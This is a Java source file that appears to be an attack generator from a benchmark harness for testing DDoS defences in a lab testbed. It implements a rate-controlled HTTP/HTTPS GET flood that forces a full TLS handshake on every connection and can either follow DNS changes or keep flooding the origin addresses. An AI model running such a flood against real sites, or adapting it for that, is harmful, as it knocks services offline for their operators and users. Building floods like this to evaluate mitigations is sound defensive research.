package org.xenoservice.benchmarks.attack;

import java.net.InetAddress;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.concurrent.Future;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import org.apache.hc.client5.http.async.methods.SimpleHttpRequest;
import org.apache.hc.client5.http.async.methods.SimpleHttpResponse;
import org.apache.hc.client5.http.async.methods.SimpleRequestBuilder;
import org.apache.hc.client5.http.async.methods.SimpleRequestProducer;
import org.apache.hc.client5.http.async.methods.SimpleResponseConsumer;
import org.apache.hc.client5.http.impl.async.CloseableHttpAsyncClient;
import org.apache.hc.core5.concurrent.FutureCallback;
import org.apache.hc.core5.http.HttpHost;
import org.apache.hc.core5.io.CloseMode;

/**
 * The flood: an open-loop HTTP GET flood at a fixed rate, from {@code --from} to {@code --until}
 * (epoch milliseconds), of the site's pages. With {@code --resolve follow-dns} (the default), like a
 * botnet that targets the name, it resolves the site through the testbed's BIND, honours the TTL,
 * and spreads its requests over every address in the answer; with {@code --resolve once}, like a
 * botnet given the address the name had when the attack was planned, it resolves the name once and
 * floods those addresses (the origin's) for the whole attack, whatever DNS says later. At most {@code --max-in-flight} requests are outstanding; a request it cannot send
 * because of that cap is logged as failed (status 0, "in-flight cap"). One line per request in
 * {@code --log}.
 *
 * <p>With {@code --trust FILE} (PEM roots) it floods {@code https://SITE/…} as browsers reach it:
 * the site's name as SNI and {@code Host}, the chain and the host name checked ({@link ClientTls}),
 * so that every request costs the server what a real one costs. Bots never resume a TLS session
 * (each connection is a full handshake, as from a machine the server has not seen), and
 * {@code --requests-per-connection N} (default 1) says how long they keep a connection: a request
 * closes its connection with probability 1/N, so that a connection carries N requests on average
 * and the server makes one full handshake per N requests. Without {@code --trust}, plain HTTP.
 *
 * <pre>{@code
 * java -cp benchmarks.jar org.xenoservice.benchmarks.attack.Attacker --dns 10.77.0.53 --site www.books.example \
 *     --trust roots.pem --requests-per-connection 10 --paths /,/books/a.html --rate 800 \
 *     --from EPOCHMS --until EPOCHMS --log attacker.csv
 * }</pre>
 */
public final class Attacker {
    private static final long TICK_MILLIS = 5;
    /** The attacker's name in the client column of its {@link RequestLog}. */
    static final String CLIENT = "attacker";

    private Attacker() {}

    /** Runs the flood; see the class comment for the arguments. */
    public static void main(String[] argv) throws Exception {
        Args args = new Args(argv);
        String site = args.get("site");
        String trust = args.get("trust", "");
        ClientTls tls = trust.isEmpty() ? null : ClientTls.trusting(Path.of(trust));
        int port = (int) args.getLong("port", tls != null ? 443 : 80);
        List<String> paths = args.getList("paths");
        double rate = Double.parseDouble(args.get("rate"));
        long from = args.getLong("from");
        long until = args.getLong("until");
        int maxInFlight = (int) args.getLong("max-in-flight", 4000);
        long perConnection = args.getLong("requests-per-connection", 1);
        if (perConnection < 1 || perConnection > 1_000_000) {
            throw new IllegalArgumentException(
                    "--requests-per-connection must be between 1 and 1000000, was " + perConnection);
        }
        Duration timeout = Duration.ofMillis(args.getLong("timeout-ms", 5000));
        Random random = new Random(args.getLong("seed", 666));
        Semaphore inFlight = new Semaphore(maxInFlight);
        try (RequestLog log = new RequestLog(Path.of(args.get("log")));
                CloseableHttpAsyncClient http = ClientTls.asyncClient(tls, maxInFlight, timeout)) {
            http.start();
            TtlResolver resolver = new TtlResolver(
                    args.dnsServer(), site, a -> log.dns(CLIENT, a), keepRule(args.get("resolve", "follow-dns")));
            Args.sleepUntil(from);
            long start = System.nanoTime();
            long sent = 0;
            while (System.currentTimeMillis() < until) {
                long due = (long) ((System.nanoTime() - start) / 1e9 * rate);
                for (; sent < due; sent++) {
                    List<InetAddress> addresses = resolver.addresses();
                    long now = System.currentTimeMillis();
                    if (now >= until) {
                        break; // a loop that fell behind does not flood past the end
                    }
                    if (addresses.isEmpty()) {
                        log.add(now, "flood", CLIENT, "-", 0, 0, "no address");
                        continue;
                    }
                    InetAddress to = addresses.get(random.nextInt(addresses.size()));
                    if (!inFlight.tryAcquire()) {
                        log.add(now, "flood", CLIENT, to.getHostAddress(), 0, 0, "in-flight cap");
                        continue;
                    }
                    SimpleHttpRequest request = SimpleRequestBuilder.get()
                            .setPath(paths.get(random.nextInt(paths.size())))
                            .addHeader("User-Agent", "flood/1.0")
                            .build();
                    if (random.nextInt((int) perConnection) == 0) {
                        request.addHeader("Connection", "close");
                    }
                    send(
                            http,
                            new HttpHost(tls != null ? "https" : "http", to, site, port),
                            request,
                            now,
                            log,
                            inFlight);
                }
                Thread.sleep(TICK_MILLIS);
            }
            // Let what is in flight finish or time out (bounded by the timeouts to connect, shake hands and answer).
            inFlight.tryAcquire(maxInFlight, 3 * timeout.toMillis() + 2000, TimeUnit.MILLISECONDS);
            http.close(CloseMode.GRACEFUL);
            System.out.printf(
                    "attacker: %d requests sent at %.0f/s, %d TLS connections (full handshakes), DNS queries %d"
                            + " (failed %d)%n",
                    sent, rate, tls == null ? 0 : tls.freshSessions(), resolver.queries(), resolver.failures());
        }
    }

    /** The attacker's DNS behaviour named by {@code --resolve}. */
    static TtlResolver.KeepRule keepRule(String resolve) {
        return switch (resolve) {
            case "follow-dns" -> TtlResolver.KeepRule.TTL;
            case "once" -> TtlResolver.KeepRule.FOREVER;
            default ->
                throw new IllegalArgumentException(
                        "--resolve takes follow-dns (honour the TTL) or once (flood the first answer's addresses), was '"
                                + resolve + "'");
        };
    }

    /** Sends one request to {@code target}; logs it when it is answered or fails, then frees its in-flight permit. */
    private static void send(
            CloseableHttpAsyncClient http,
            HttpHost target,
            SimpleHttpRequest request,
            long at,
            RequestLog log,
            Semaphore inFlight) {
        String address = target.getAddress().getHostAddress();
        long begin = System.nanoTime();
        Future<SimpleHttpResponse> unused = http.execute(
                target,
                SimpleRequestProducer.create(request),
                SimpleResponseConsumer.create(),
                null,
                null,
                new FutureCallback<SimpleHttpResponse>() {
                    @Override
                    public void completed(SimpleHttpResponse response) {
                        done(response.getCode(), "");
                    }

                    @Override
                    public void failed(Exception failure) {
                        done(0, ClientTls.describe(failure));
                    }

                    @Override
                    public void cancelled() {
                        done(0, "cancelled");
                    }

                    private void done(int status, String detail) {
                        inFlight.release();
                        log.add(at, "flood", CLIENT, address, status, (System.nanoTime() - begin) / 1e6, detail);
                    }
                });
    }
}
